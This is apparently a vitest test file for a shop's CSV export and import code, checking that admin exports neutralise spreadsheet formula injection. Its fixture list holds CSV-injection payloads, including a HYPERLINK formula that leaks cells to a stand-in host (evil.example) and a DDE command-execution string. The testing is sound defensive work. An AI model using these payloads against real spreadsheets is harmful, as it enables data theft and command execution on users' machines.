import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { penceToDecimal } from "../schema/format";
import { csvCells, csvStream, poundsText, readCsv, unescapeCell, writeCsv, writeCsvLines } from "../worker/lib/csv";
import { adminHeaders } from "./helpers/admin";
import { createProduct } from "./helpers/factories";
import { createCustomer, createOrder, createServiceRecord, createSubscriber } from "./helpers/factories-admin";
import { call, callJson } from "./helpers/http";

/** What a visitor can type into a name, an address or a message, meant to run in the owner's spreadsheet. */
const attacks = [
  '=HYPERLINK("http://evil.example/?leak="&D2&E2,"Click")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "=1+1\nsecond line",
];

/** A cell Excel, LibreOffice or Google Sheets would evaluate (a plain number is data, not a formula). */
const evaluated = (cell: string) => /^[=+\-@\t\r\n]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

let auth: Record<string, string>;
beforeAll(async () => {
  auth = await adminHeaders();
});

async function download(path: string) {
  const res = await call(path, { headers: auth });
  expect(res.status, path).toBe(200);
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { bytes, text: new TextDecoder("utf-8", { ignoreBOM: true, fatal: false }).decode(bytes) };
}

describe("the CSV writer", () => {
  it("writes a byte-order mark, quotes per RFC 4180, and a ' before every formula character", () => {
    const csv = writeCsv(["name", "count"], [...attacks.map((a) => [a, -3]), ["Café £5", null]]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const cells = Papa.parse<string[]>(csv.slice(1)).data.flat();
    expect(cells.filter(evaluated)).toEqual([]);
    // Numbers stay numbers: a negative count is not neutralised.
    expect(cells).toContain("-3");
    expect(cells).toContain("Café £5");
  });

  it("writes the same bytes as Papaparse's unparse with formula escaping, which it replaced for speed", () => {
    const awkward = [" leading", "trailing ", "a,b", 'say "hi"', "two\r\nlines", "\uFEFFmark", "", "'=own", "-", "£"];
    const rows = [...attacks, ...awkward].map((v, i) => [v, i, -i / 4, null, undefined, "plain"]);
    const fields = ["value", "n", "pounds", "none", "missing", "=header"];
    const papa = Papa.unparse(
      { fields, data: rows.map((r) => r.map((v) => v ?? "")) },
      { newline: "\r\n", escapeFormulae: /^'*[=+\-@\t\r\n]/ },
    );
    expect(writeCsv(fields, rows)).toBe(`\uFEFF${papa}`);
    expect(writeCsv(fields, [])).toBe(`\uFEFF${Papa.unparse({ fields, data: [] }, { escapeFormulae: /^'*[=+\-@\t\r\n]/ })}`);
  });

  it("writes pounds in whole numbers exactly as toFixed does, negatives and the largest amounts too", () => {
    const samples = [0, -0, 1, -1, 5, -5, 99, 100, -100, 101, 1_050, -1_050, 123_456_789, 1e12, -1e12, 1e12 + 1, 0.5, -2.5];
    for (let pence = -25_000; pence <= 25_000; pence++) samples.push(pence);
    for (let i = 0; i < 20_000; i++) samples.push(Math.round((Math.random() - 0.5) * 2e12));
    expect(samples.filter((p) => poundsText(p) !== penceToDecimal(p))).toEqual([]);
  });

  it("streams the same bytes as the whole file, in pieces, a header alone with its line break", async () => {
    const read = async (stream: ReadableStream<Uint8Array>) => {
      const pieces: Uint8Array[] = [];
      for await (const piece of stream) pieces.push(piece);
      return { bytes: new Uint8Array(await new Blob(pieces).arrayBuffer()), pieces: pieces.length };
    };
    const encode = (text: string) => new TextEncoder().encode(text);
    // 3,000 lines of 60-odd characters, "é" and "£" among them: several pieces, cut between lines.
    const lines = Array.from({ length: 3_000 }, (_, i) => csvCells([`Café £${i}`, "=1+1", 'say "hi"', i, "x".repeat(40)]));
    const streamed = await read(csvStream(["a", "b"], lines));
    expect(streamed.pieces).toBeGreaterThan(2);
    expect(streamed.bytes).toEqual(encode(writeCsvLines(["a", "b"], lines)));
    expect((await read(csvStream(["a", "b"], []))).bytes).toEqual(encode(writeCsvLines(["a", "b"], [])));
    expect((await read(csvStream(["a"], ["1"]))).bytes).toEqual(encode(writeCsvLines(["a"], ["1"])));
  });

  it("reads back exactly what it wrote", () => {
    const values = [...attacks, "'quoted already", "plain", "Café £5", "'=typed with its own quote", "''+two"];
    const written = writeCsv(
      ["value"],
      values.map((v) => [v]),
    );
    expect(readCsv(written).records.map((r) => r.value)).toEqual(values);
    expect(unescapeCell("'=1")).toBe("=1");
    expect(unescapeCell("'plain")).toBe("'plain");
  });
});

describe("every export", () => {
  it("opens with no cell a spreadsheet would evaluate, the mark first, '£' and 'é' intact", async () => {
    const [first, second, third, fourth] = attacks;
    await createCustomer({ firstName: first, lastName: "Café £", address: second, email: null, phone: "07700 900111" });
    await createOrder({
      customerName: third,
      shippingAddress: fourth!,
      customerEmail: `csv-${crypto.randomUUID().slice(0, 6)}@example.com`,
    });
    await createServiceRecord({ serviceType: attacks[4]!, notes: attacks[5]!, description: "Café £ and é" });
    await createSubscriber({ email: `csv-${crypto.randomUUID().slice(0, 6)}@example.com`, consentText: attacks[6]! });
    await createProduct({ name: `${attacks[7]} Café £`, description: attacks[0]! });

    for (const file of [
      "/api/admin/export/customers.csv",
      "/api/admin/export/orders.csv",
      "/api/admin/export/service-records.csv",
      "/api/admin/export/subscribers.csv",
      "/api/admin/products/export.csv",
    ]) {
      const { bytes, text } = await download(file);
      expect([...bytes.slice(0, 3)], file).toEqual([0xef, 0xbb, 0xbf]);
      const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
      expect(parsed.errors, file).toEqual([]);
      const cells = parsed.data.flat();
      expect(cells.filter(evaluated), file).toEqual([]);
      // The attacks are all there, inert, not dropped.
      expect(
        cells.some((c) => /^'[=+\-@\t\r\n]/.test(c)),
        file,
      ).toBe(true);
      if (!/subscribers|orders/.test(file)) expect(text, file).toMatch(/Café £/);
    }
  });

  it("is read back unchanged by the product import (round trip)", async () => {
    const product = await createProduct({
      name: `=SUM(A1:A9) ${crypto.randomUUID().slice(0, 6)}`,
      description: "@mention -dash Café £",
    });
    const { text } = await download("/api/admin/products/export.csv");
    const { status, body } = await callJson<{ updated: number; created: number; changes: { id: number }[]; errors: unknown[] }>(
      "/api/admin/products/import?dryRun=1",
      { method: "POST", body: text, headers: { ...auth, "Content-Type": "text/csv" } },
    );
    expect(status).toBe(200);
    expect(body.errors).toEqual([]);
    expect(body.changes.filter((c) => c.id === product.id)).toEqual([]);
    expect(body.created).toBe(0);
  });
});
